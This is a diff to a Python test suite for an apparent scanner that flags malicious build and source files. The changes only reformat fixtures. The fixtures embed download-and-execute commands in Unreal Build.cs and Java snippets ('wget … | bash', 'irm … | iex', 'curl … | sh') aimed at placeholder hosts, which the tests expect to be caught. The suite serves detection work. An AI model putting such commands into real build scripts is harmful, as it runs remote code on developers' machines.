@@ -24,12 +24,14 @@ _BUILD_CS = (
     [
         (
             "Source/Grain/Grain.Build.cs",
-            '        string url = "http://203.0.113.7/tools/" + (Target.Platform == UnrealTargetPlatform.Mac ? "m.sh" : "l.sh");\n'
+            '        string url = "http://203.0.113.7/tools/"'
+            ' + (Target.Platform == UnrealTargetPlatform.Mac ? "m.sh" : "l.sh");\n'
             '        Process.Start("bash", "-c \\"wget -qO- " + url + " | bash\\"");\n',
         ),
         (
             "Source/Grain/Grain.Build.cs",
-            '        var psi = new ProcessStartInfo("powershell", "-NoProfile -Command \\"irm https://cdn.grain-fx.example/i.ps1 | iex\\"");\n'
+            '        var psi = new ProcessStartInfo("powershell",'
+            ' "-NoProfile -Command \\"irm https://cdn.grain-fx.example/i.ps1 | iex\\"");\n'
             "        Process.Start(psi);\n",
         ),
     ],
@@ -41,7 +43,7 @@ def test_a_build_cs_starting_a_downloaded_script_is_an_error(tmp_path: Path, pat
 
 def test_a_java_shell_command_built_around_a_typed_string_is_read(tmp_path: Path) -> None:
     java = (
-        "class Fetch {\n  void go() throws Exception {\n    final String src = \"https://198.51.100.40/boot.sh\";\n"
+        'class Fetch {\n  void go() throws Exception {\n    final String src = "https://198.51.100.40/boot.sh";\n'
         '    new ProcessBuilder("sh", "-c", "curl -s " + src + " | sh").start();\n  }\n}\n'
     )
     errors = scan_errors(tmp_path / "s", {"tools/Fetch.java": java})
